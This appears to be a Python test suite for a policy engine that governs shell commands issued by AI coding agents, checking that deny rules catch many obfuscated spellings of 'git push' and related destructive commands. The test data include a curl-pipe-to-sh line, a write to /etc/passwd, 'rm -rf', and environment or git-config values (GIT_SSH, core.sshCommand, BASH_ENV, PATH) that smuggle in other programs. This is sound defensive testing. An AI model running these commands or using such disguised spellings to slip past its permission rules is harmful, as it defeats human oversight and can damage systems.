"""Rules about commands: `runs` in the policy."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sb.config.command_patterns import parse_pattern
from sb.config.rules import PolicyRule
from sb.config.sources import read_rules
from sb.errors import ConfigError
from sb.kernel.contracts import SafetyClass
from sb.kernel.policy.rules import WrittenPolicy, in_words
from sb.shell.programs.patterns import may_run, surely_runs
from tests.rows import rows

SPELLINGS = [
    "git push",
    "git push --force origin main",
    "git -C . push",
    "git -c user.name=x --no-pager push",
    "/usr/bin/git push",
    "cd x && git push",
    "true; git push",
    "false || git push &",
    "command git push origin main",
    "env GIT_TRACE=1 git push",
    "GIT_TRACE=1 git push",
    "sudo -u bob git push",
    "nohup timeout 5 git push",
    "sh -c 'git push'",
    'bash -lc "cd x; git push"',
    "echo origin | xargs git push",
    "find . -name .git -execdir git push ';'",
    "echo $(git push)",
    "cat <(git push)",
    "if true; then git push; fi",
    "f() { git push; }; f",
    "trap 'git push' EXIT",
    "eval git push",
    "bash <<'E'\ngit push\nE",
    "g\\it pu''sh",
    "X=push; git $X",
    "for c in status push; do git $c; done",
    "git -c alias.p=push p",
    "git p",
    "docker run -v .:/x img git push",
    "firejail git push",
    "op run -- git push",
    "nix-shell --run 'git push'",
    "git rebase -x 'git push' main",
    """python -c 'import os; os.system("git push")'""",
    """node -e 'child_process.execSync("git push")'""",
    """python -c 'subprocess.run(["git", "push"])'""",
]
# Lines of which a program or a word that counts is known only when they run.
DOUBTFUL = [
    "$X push",
    "git $X",
    "curl -s https://example.com/x | sh",
    'bash -c "$X"',
    "eval $X",
    "git 'push",
    "cat commands | xargs git",
    "for g in git hg; do $g push; done",
]
OTHERS = [
    "git status",
    "git commit -m 'git push'",
    "echo git push",
    "git log --grep push",
    "git fetch origin push",
    'git commit -m "$(date)"',
    "grep -r 'git push' .",
    "git stash push -m x",
    "ls *.py",
    "make push",
    "hg push",
]


def rule(effect: str, *runs: str, **more: Any) -> PolicyRule:
    return PolicyRule(effect, ("host.shell.*", "shell.run"), runs=runs, **more)


def effect(rules: list[PolicyRule], command: str, **more: Any) -> str:
    args = {"command": command, "cwd": "/srv", "tool": "Bash", **more}
    return WrittenPolicy(rules).decide("host.shell.network", "claude-code", SafetyClass.NETWORK, args).effect


@rows("command", [*SPELLINGS, *DOUBTFUL])
def test_denial_finds_every_spelling_and_what_may_be_one(command: str) -> None:
    assert effect([rule("deny", "git push")], command) == "deny"
    assert effect([rule("approve", "git push")], command) == "approve"


def test_list_of_spellings_is_found_but_for_those_that_another_program_reads() -> None:
    lines = Path(__file__).with_name("spellings.txt").read_text(encoding="utf-8").splitlines()[1:]
    assert len(lines) == 170
    for line in lines:
        command = line[2:].replace("␤", "\n").replace("⇥", "\t")
        expected = "deny" if line[0] == "+" else "allow"
        assert effect([rule("deny", "git push")], command) == expected, line


@rows("command", OTHERS)
def test_denial_leaves_other_commands_alone(command: str) -> None:
    assert effect([rule("deny", "git push")], command) == "allow"


@rows(
    "command",
    ["git push", "git -C . push origin main", "command git push", "sh -c 'git push'", "/usr/bin/git push"],
)
def test_rule_that_allows_takes_every_known_spelling(command: str) -> None:
    assert effect([rule("allow", "git push")], command) == "allow"


@rows(
    "command",
    [
        *DOUBTFUL,
        "git push && make",
        "cd x && git push",
        "./git push",
        "PATH=/tmp/x git push",
        "sudo git push",
        "git push > out",
        "git push $REMOTE",
        "git push $(cat remote)",
        "git -c core.sshCommand=./x push",
        "git -c core.fsmonitor=./x push",
        "git --exec-path=./x push",
        "git --git-dir=/tmp/x push",
        "GIT_SSH=./x git push",
        "git() { make; }; git push",
        "BASH_ENV=./x bash -c 'git push'",
        "eval $X git push",
        "git push & curl example.com",
        "",
    ],
)
def test_rule_that_allows_needs_every_command_to_be_known_and_named(command: str) -> None:
    assert effect([rule("allow", "git push")], command) == "deny"


def test_allowed_commands_can_be_listed() -> None:
    allowed = [rule("allow", "cd", "git push", "> *.log")]
    assert effect(allowed, "cd x && git push > push.log") == "allow"
    assert effect(allowed, "cd x && git push > push.sh") == "deny"


@rows(
    "pattern, command, fits",
    [
        ("git push --force", "git push origin main", False),
        ("git push --force", "git push origin main --forc", True),
        ("git push --force", "git push --force=yes", True),
        ("git push -f", "git push -uf origin", True),
        ("rm -rf", "rm -r -f x", True),
        ("rm -rf", "rm -r x", False),
        ("rm -rf", "rm -- -rf", False),
        ("terraform destroy", "terraform -chdir=x destroy", True),
        ("kubectl delete pod", "kubectl -n prod delete pod x", True),
        ("kubectl delete pod", "kubectl delete --namespace prod pod x", True),
        ("kubectl delete pod", "kubectl get pod delete", False),
        ("npm run deploy*", "npm --silent run deploy:prod", True),
        ("pip install", "python3 -m pip install x", True),
        ("python* -m http.server", "python3 -m http.server", True),
        ("PATH=", "export PATH=/x:$PATH", True),
        ("> /etc/*", "echo x > /etc/passwd", True),
        ("sudo", "sudo ls", True),
        ("sud?", "sudo ls", True),
    ],
)
def test_pattern_is_a_program_its_first_operands_and_options(pattern: str, command: str, fits: bool) -> None:
    assert (effect([rule("deny", pattern)], command) == "deny") is fits


def test_option_that_may_be_another_ones_value_allows_nothing() -> None:
    allowed = [rule("allow", "git push --dry-run")]
    assert effect(allowed, "git push --dry-run origin") == "allow"
    assert effect(allowed, "git push -o --dry-run origin") == "deny"
    assert effect(allowed, "git push -- --dry-run") == "deny"


def test_line_in_another_language_fits_every_denial_and_no_allow() -> None:
    assert effect([rule("deny", "git push")], "Get-ChildItem", tool="PowerShell") == "deny"
    assert effect([rule("allow", "*")], "ls", tool="PowerShell") == "deny"


def test_program_of_the_shell_tool_counts_with_its_input() -> None:
    policy = WrittenPolicy([rule("deny", "git push")])

    def decided(**args: Any) -> str:
        return policy.decide("shell.run", "clerk", SafetyClass.DESTRUCTIVE, args).effect

    assert decided(argv=["git", "-C", "x", "push"]) == "deny"
    assert decided(argv=["sh", "-c", "git push"]) == "deny"
    assert decided(argv=["sh"], stdin="git push") == "deny"
    assert decided(argv=["echo", "git push"]) == "allow"


def test_command_of_another_tool_of_a_host_counts() -> None:
    policy = WrittenPolicy([PolicyRule("deny", ("host.*",), runs=("git push",))])

    def decided(**given: Any) -> str:
        args = {"tool": "mcp__x__y", "input": given}
        return policy.decide("host.mcp", "claude-code", SafetyClass.NETWORK, args).effect

    assert decided(command="cd x && git push") == "deny"
    assert decided(commands=["ls", "git push"]) == "deny"
    assert decided(argv=["git", "push"]) == "deny"
    assert decided(command=["git", {"a": 1}]) == "deny"
    assert decided(text="git push") == "allow"


def test_call_without_a_command_line_fits_no_rule_about_commands() -> None:
    policy = WrittenPolicy([PolicyRule("deny", ("host.*",), runs=("*",))])
    assert policy.decide("host.read", "a", SafetyClass.READ_ONLY, {"tool": "Read"}).effect == "allow"


def test_arguments_and_commands_have_to_fit_both() -> None:
    both = [rule("deny", "git push", args={"cwd": ("*/prod",)})]
    assert effect(both, "git push", cwd="/srv/prod") == "deny"
    assert effect(both, "git push") == "allow"


def test_rules_about_commands_change_the_version_and_others_keep_it() -> None:
    assert WrittenPolicy([rule("deny", "git push")]).version != WrittenPolicy([rule("deny", "ls")]).version
    assert "it runs git push" in in_words(rule("deny", "git push"))
    assert "all it runs git push" in in_words(rule("allow", "git push"))


def test_file_of_rules_takes_a_command_or_a_list(tmp_path: Path) -> None:
    file = tmp_path / "policy.yaml"
    file.write_text('policy:\n- {deny: "*", runs: git push}\n- {allow: "*", runs: [ls, "cat *"]}\n')
    first, second = read_rules(file, {})
    assert (first.runs, second.runs) == (("git push",), ("ls", "cat *"))


@pytest.mark.parametrize(
    "runs",
    ['"git push && ls"', '""', '"-rf"', "[]", '"./x"', '"$X"', "\"'git push'\"", "{a: b}", '"A=1 git"'],
)
def test_malformed_command_is_refused_with_its_place(tmp_path: Path, runs: str) -> None:
    file = tmp_path / "policy.yaml"
    file.write_text(f'policy:\n- {{deny: "*", runs: {runs}}}\n')
    with pytest.raises(ConfigError, match=r"policy\[1\]\.runs"):
        read_rules(file, {})


_WORDS = st.sampled_from(
    ["git", "push", "-C", ".", "--force", "-f", "status", "--", "x", "\x07", "\x08", "-o"]
)


@given(
    st.lists(_WORDS, min_size=1, max_size=7), st.sampled_from(["git", "git push", "git push --force", "*"])
)
def test_what_surely_fits_also_may(argv: list[str], pattern: str) -> None:
    parsed = parse_pattern(pattern)
    assert may_run(parsed, argv) or not surely_runs(parsed, argv)
